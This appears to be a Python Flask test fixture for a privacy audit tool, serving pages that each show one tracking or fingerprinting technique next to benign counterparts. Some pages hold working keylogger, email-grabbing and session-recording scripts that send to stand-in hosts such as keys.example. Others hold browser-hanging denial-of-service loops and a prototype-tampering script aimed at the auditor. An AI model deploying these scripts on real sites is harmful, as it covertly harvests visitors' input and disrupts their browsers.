"""A site whose pages each do one thing that an audit looks for, and their ordinary counterparts."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any, NamedTuple

from flask import Flask, Response, abort, redirect, request

__all__ = ["COUNTERPARTS", "ENDLESS", "HOME", "PAGES", "make"]

HOME = "https://www.tea.example"

_DRAW = """
var canvas = document.createElement("canvas"); canvas.width = 200; canvas.height = 50;
var pen = canvas.getContext("2d");
pen.fillStyle = "#f60"; pen.fillText("Cwm fjordbank glyphs", 2, 15);
pen.fillStyle = "#069"; pen.fillText("vext quiz", 4, 17);
"""


class Page(NamedTuple):
    """A page's markup, the requirement that it breaks, and what the evidence must name."""

    html: str
    breaks: str
    names: str = ""


def _script(code: str, body: str = "") -> str:
    return f"{body}<script>{code}</script>"


PAGES: Mapping[str, Page] = {
    "cookie": Page(
        _script("document.cookie = 'visitor=42; max-age=86400; path=/'"),
        "11.script-cookies",
        "visitor",
    ),
    "cookie-store": Page(
        _script("cookieStore.set('visited', '1')"), "11.script-cookies", "visited"
    ),
    "local-storage": Page(
        _script("localStorage.setItem('id', String(Math.random()))"),
        "11.storage",
        "id, another for each visitor",
    ),
    "indexed-db": Page(
        _script("""
indexedDB.open("people", 1).onupgradeneeded = function (event) {
  event.target.result.createObjectStore("seen", {autoIncrement: true}).add({id: crypto.randomUUID()});
}"""),
        "11.storage",
        "people/seen",
    ),
    "beacon-on-leaving": Page(
        _script(
            "addEventListener('pagehide', function () { navigator.sendBeacon('https://ears.example/bye', 'x') })"
        ),
        "12.beacons",
        "ears.example",
    ),
    "tracker-by-script": Page(
        _script("new Image().src = 'https://hm.baidu.com/hm.gif?a=1'"),
        "12.requests",
        "hm.baidu.com",
    ),
    "tracker-in-a-frame": Page(
        '<iframe srcdoc="<script>fetch(&quot;https://mc.yandex.ru/watch/1&quot;)</script>"></iframe>',
        "12.requests",
        "mc.yandex.ru",
    ),
    "tracker-in-a-worker": Page(
        _script(
            """new Worker(URL.createObjectURL(new Blob(["fetch('https://hm.baidu.com/hm.json')"])))"""
        ),
        "12.requests",
        "hm.baidu.com",
    ),
    "tracker-after-a-loader": Page(
        _script("""
var loader = document.createElement("script");
loader.src = "https://loader.example/l.js";
loader.onload = function () { new Image().src = "https://hm.baidu.com/hm.gif" };
document.head.appendChild(loader);"""),
        "12.requests",
        "hm.baidu.com",
    ),
    "ads": Page(
        _script("""
var loader = document.createElement("script");
loader.src = "https://securepubads.g.doubleclick.net/tag/js/gpt.js";
document.head.appendChild(loader);"""),
        "11.requests",
        "securepubads.g.doubleclick.net",
    ),
    "service-worker": Page(
        _script("navigator.serviceWorker.register('/worker.js')"),
        "12.service-workers",
        "hm.baidu.com",
    ),
    "canvas": Page(
        _script(f"{_DRAW} window.mark = canvas.toDataURL();"), "12.fingerprints", "canvas"
    ),
    "canvas-data": Page(
        _script(f"{_DRAW} window.mark = pen.getImageData(0, 0, 200, 50).data.length;"),
        "12.fingerprints",
        "canvas",
    ),
    "canvas-fonts": Page(
        _script("""
var pen = document.createElement("canvas").getContext("2d");
for (var i = 0; i < 60; i++) { pen.font = "12px Font" + i; pen.measureText("mmmmmmmmmmlli") }"""),
        "12.fingerprints",
        "font",
    ),
    "element-fonts": Page(
        _script(
            """
for (var i = 0; i < 60; i++) {
  var span = document.createElement("span");
  span.textContent = "mmmmmmmmmmlli"; span.style.fontFamily = "Font" + i + ", monospace";
  document.body.appendChild(span);
}
window.widths = Array.from(document.querySelectorAll("span"), function (span) { return span.offsetWidth });
""",
            "<p></p>",
        ),
        "12.fingerprints",
        "font",
    ),
    "audio": Page(
        _script("""
var context = new OfflineAudioContext(1, 5000, 44100), tone = context.createOscillator();
var compressor = context.createDynamicsCompressor();
tone.connect(compressor); compressor.connect(context.destination); tone.start(0);
context.startRendering().then(function (heard) { window.mark = heard.getChannelData(0)[4500] });"""),
        "12.fingerprints",
        "audio",
    ),
    "keys-by-fetch": Page(
        _script(
            """
document.querySelector("input").addEventListener("input", function (event) {
  fetch("https://keys.example/k", {method: "POST", body: btoa(JSON.stringify({value: event.target.value}))});
})""",
            "<input name=topic>",
        ),
        "12.keys",
        "keys.example",
    ),
    "keys-by-websocket": Page(
        _script(
            """
var socket = new WebSocket("wss://keys.example/k");
document.addEventListener("keydown", function (event) {
  if (socket.readyState === 1) socket.send(JSON.stringify({key: event.key}));
})""",
            "<textarea name=topic></textarea>",
        ),
        "12.keys",
        "single keys",
    ),
    "keys-by-beacon": Page(
        _script(
            """
async function hex(text) {
  var digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text));
  return Array.from(new Uint8Array(digest), function (byte) { return byte.toString(16).padStart(2, "0") }).join("");
}
document.querySelector("input").addEventListener("blur", async function (event) {
  new Image().src = "https://keys.example/k?h=" + await hex(event.target.value);
})""",
            "<input name=topic><input name=other>",
        ),
        "12.keys",
        "sha256",
    ),
    "email": Page(
        _script(
            """
document.querySelector("input").addEventListener("change", function (event) {
  new Image().src = "https://lists.example/s?e=" + encodeURIComponent(event.target.value);
})""",
            "<input name=mail type=email><input name=topic>",
        ),
        "8.requests",
        "email field mail",
    ),
    "recorder": Page(
        _script(
            """
new MutationObserver(function () {
  fetch("https://replay.example/r", {method: "POST", body: document.documentElement.outerHTML});
}).observe(document, {childList: true, subtree: true, characterData: true});"""
        ),
        "12.recorders",
        "replay.example",
    ),
    "moves": Page(
        _script("""
var path = [];
document.addEventListener("mousemove", function (event) { path.push({x: event.clientX, y: event.clientY}) });
addEventListener("pagehide", function () {
  fetch("https://replay.example/m", {method: "POST", keepalive: true, body: JSON.stringify(path)});
});"""),
        "12.recorders",
        "the mouse's path",
    ),
}

# Each does what many sites do, and breaks nothing.
COUNTERPARTS: Mapping[str, str] = {
    "own-search": _script(
        """
document.querySelector("input").addEventListener("input", function (event) {
  fetch("/suggest?q=" + encodeURIComponent(event.target.value));
  fetch("/suggest", {method: "POST", body: event.target.value});
})""",
        "<input name=q type=search>",
    ),
    "chart": _script(
        """
var canvas = document.createElement("canvas"); canvas.width = 300; canvas.height = 200;
document.body.appendChild(canvas);
var pen = canvas.getContext("2d");
pen.save(); pen.fillStyle = "#333";
["January", "February", "March", "April"].forEach(function (month, at) { pen.fillText(month, 20 + at * 60, 190) });
pen.fillStyle = "#06c"; pen.fillText("Cups of tea", 10, 12); pen.restore();
var link = document.createElement("a"); link.download = "chart.png"; link.href = canvas.toDataURL();""",
        "<p></p>",
    ),
    "emoji-test": _script("""
var canvas = document.createElement("canvas"), pen = canvas.getContext("2d");
pen.fillText("\\ud83c\\udf75", 0, 0); canvas.toDataURL();"""),
    "thumbnail": _script("""
var canvas = document.createElement("canvas"); canvas.width = canvas.height = 64;
canvas.getContext("2d").fillRect(0, 0, 32, 32); canvas.toBlob(function () {});"""),
    "own-storage": _script("""
if (!navigator.globalPrivacyControl && navigator.doNotTrack !== "1") {
  localStorage.setItem("basket", "[]"); document.cookie = "theme=dark; path=/";
}
sessionStorage.setItem("tab", "1");"""),
    "own-beacon": _script(
        "addEventListener('pagehide', function () { navigator.sendBeacon('/collect', 'x') })"
    ),
    "own-worker": _script("navigator.serviceWorker.register('/quiet.js')"),
    "font-picker": _script(
        """
var select = document.createElement("select");
for (var i = 0; i < 80; i++) {
  var option = document.createElement("option");
  option.style.fontFamily = "Font" + i; option.textContent = "Font" + i; select.appendChild(option);
}
document.body.appendChild(select); window.width = select.offsetWidth;""",
        "<p></p>",
    ),
    "music": _script("""
var context = new OfflineAudioContext(1, 5000, 44100), tone = context.createOscillator(), gain = context.createGain();
tone.connect(gain); gain.connect(context.destination); tone.start(0);
context.startRendering().then(function (heard) { window.wave = heard.getChannelData(0) });"""),
}

# What a page can do so that a visitor never gets away.
ENDLESS: Mapping[str, tuple[str, str]] = {
    "dialogs": (_script("for (;;) alert('again')"), "dialogs"),
    "busy": (_script("for (;;) ;"), "more than"),
    "reloads": (_script("location.reload()"), "again and again|more than"),
    "windows": (_script("window.open('/own-search'); window.open('https://other.example/')"), ""),
    "away": (_script("location = 'https://elsewhere.example/'"), ""),
    "download": (_script("location = '/file.bin'"), "download"),
    "stays": (_script("addEventListener('beforeunload', function (e) { e.preventDefault() })"), ""),
    "memory": (
        _script(
            "var kept = []; for (;;) kept.push(new Array(1e6).fill(Math.random()).map(String))"
        ),
        "",
    ),
    "requests": (
        _script(
            "setInterval(function () { for (var i = 0; i < 50; i++) fetch('/suggest?' + Math.random()) }, 5)"
        ),
        "more than|never stops loading",
    ),
    "another-language": (
        _script(
            "Array.prototype.map = function () { return [{type: {}, name: 1}] };"
            "Array.prototype.push = function () { this[0] = ['localStorage', {}]; this.length = 1 };"
            "eval('throw new Error(1) //# sourceURL=http://[x/');",
            "<input name=q>",
        ),
        "answer in another form",
    ),
    "stream": (
        _script("fetch('/endless').then(function (r) { return r.arrayBuffer() })"),
        "more than|never stops loading",
    ),
}

# Connections that are no HTTP requests, by name and by address.
CALLS = _script(
    """
new RTCPeerConnection({iceServers: [{urls: "stun:stun.example:3478"}, {urls: "stun:203.0.113.5:3478"}]})
  .createDataChannel("x");
var peer = new RTCPeerConnection({iceServers: [{urls: "stun:203.0.113.5:3478"}]});
peer.createDataChannel("x"); peer.createOffer().then(function (offer) { peer.setLocalDescription(offer) });
try { new WebTransport("https://203.0.113.5:4433/").closed.catch(function () {}) } catch (refused) {}
fetch("https://203.0.113.5/").catch(function () {});
""",
    "<link rel=dns-prefetch href=//named.example><link rel=preconnect href=https://named.example>",
)

_WORKER = "fetch('https://hm.baidu.com/hm.json').catch(function () {});"
_SHELL = "<!doctype html><meta charset=utf-8><title>{name}</title><link rel=icon href=data:,><h1>Tea</h1>{html}"


def make() -> Flask:
    """Return the site."""
    app = Flask("tea")
    app.config["POSTED"] = []
    pages = {name: page.html for name, page in PAGES.items()} | dict(COUNTERPARTS)
    pages |= {"calls": CALLS, **{name: html for name, (html, _) in ENDLESS.items()}}

    @app.get("/<name>")
    def page(name: str) -> Any:
        return _SHELL.format(name=name, html=pages[name]) if name in pages else abort(404)

    @app.route("/suggest", methods=["GET", "POST"])
    def suggest() -> Any:
        if request.method == "POST":
            app.config["POSTED"].append(request.get_data())
        return {"found": []}

    @app.post("/collect")
    def collect() -> Any:
        return "", 204

    @app.get("/worker.js")
    def worker() -> Any:
        return Response(_WORKER, content_type="text/javascript")

    @app.get("/quiet.js")
    def quiet() -> Any:
        return Response("addEventListener('fetch', function () {})", content_type="text/javascript")

    @app.get("/circle")
    def circle() -> Any:
        return redirect("/circle")

    @app.get("/file.bin")
    def file() -> Any:
        return Response(b"\0" * 100, headers={"Content-Disposition": "attachment"})

    @app.get("/endless")
    def endless() -> Any:
        def forever() -> Any:
            while True:
                yield b"." * 1000

        return Response(forever(), content_type="image/png")

    return app
